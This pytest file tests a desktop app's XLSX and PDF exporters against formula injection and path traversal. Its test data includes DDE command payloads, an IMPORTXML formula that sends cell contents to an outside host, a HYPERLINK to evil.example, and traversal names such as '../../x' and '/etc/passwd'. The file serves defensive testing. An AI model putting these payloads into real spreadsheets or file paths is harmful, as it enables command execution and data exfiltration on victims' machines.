"""Exports cannot carry formulas that run on opening, and text from workbooks never becomes a path."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path, PureWindowsPath

import openpyxl
import pytest

from lawgov_desktop.core.fields import LICENCE, POWER
from lawgov_desktop.exporters.model import (
    CatalogueRow,
    CatalogueSection,
    CatalogueSpec,
    ExportSheet,
    safe_filename,
)
from lawgov_desktop.exporters.pdf import write_catalogues_to_folder
from lawgov_desktop.exporters.xlsx import FORMULA_TRIGGERS, write_workbook

HOSTILE_TEXT = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点我\")", "+1+1", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\n第二行", "普通文本", "'=已加引号",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
)
HOSTILE_NAMES = ("../../x", "..", ".", "CON", "con.txt", "NUL", "COM1", "LPT9.pdf", "a:b", "a/b\\c", "C:\\Windows\\x",
                 "\\\\server\\share\\x", "/etc/passwd", " 尾随空格和点. ", "名称*?<>|\"", "\x00\x1f控制字符", "",
                 "局" * 300)
_WINDOWS_FORBIDDEN = re.compile(r'[\x00-\x1f<>:"/\\|?*]')
_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}


def test_no_exported_cell_is_a_formula(tmp_path):
    columns = ["name", "department", "legal_basis", "remark", "code"]
    rows = [dict.fromkeys(columns, text) for text in HOSTILE_TEXT]
    path = write_workbook([ExportSheet("许可事项", LICENCE, columns, rows),
                           ExportSheet("=SUM(1)", POWER, ["name", "remark"], rows)], tmp_path / "导出.xlsx")
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert not [name for name in names if "vbaProject" in name or "externalLink" in name or "connections" in name]
        for name in names:
            if name.startswith("xl/worksheets/"):
                xml = package.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name  # no formula element anywhere
    book = openpyxl.load_workbook(path)
    written = set(HOSTILE_TEXT)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if cell.value is None:
                    continue
                seen += 1
                assert cell.data_type != "f", cell.coordinate
                assert cell.value in written, cell.coordinate  # exactly: lxml keeps a carriage return as &#13;
                assert cell.quotePrefix == cell.value.startswith(FORMULA_TRIGGERS), cell.coordinate
    assert seen == len(HOSTILE_TEXT) * (len(columns) + 2)


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_safe_filename_is_a_plain_name_on_windows_and_linux(text):
    name = safe_filename(text)
    assert name and len(name) <= 80
    assert not _WINDOWS_FORBIDDEN.search(name)
    assert name not in (".", "..") and not name.endswith((".", " ")) and not name.startswith(".")
    assert name.split(".")[0].upper() not in _RESERVED
    assert PureWindowsPath(name).name == name and Path(name).name == name


def test_pdf_folder_export_writes_only_inside_the_folder(tmp_path):
    folder = tmp_path / "导出"
    folder.mkdir()
    outside = set(tmp_path.parent.rglob("*"))
    specs = [CatalogueSpec(title="清单", columns=["sequence", "name"], group_label=label,
                           sections=[CatalogueSection(None, [CatalogueRow({"name": "企业投资项目核准"})])])
             for label in HOSTILE_NAMES[:8]]
    results = write_catalogues_to_folder(specs, folder)
    written = sorted(path.name for path in folder.iterdir())
    assert len(written) == len(specs)  # one file each, none overwritten by another
    for result in results:
        assert result.path.parent == folder and result.path.suffix == ".pdf"
        assert result.path.stem.split(".")[0].upper() not in _RESERVED
    assert set(tmp_path.parent.rglob("*")) - outside == {folder / name for name in written}
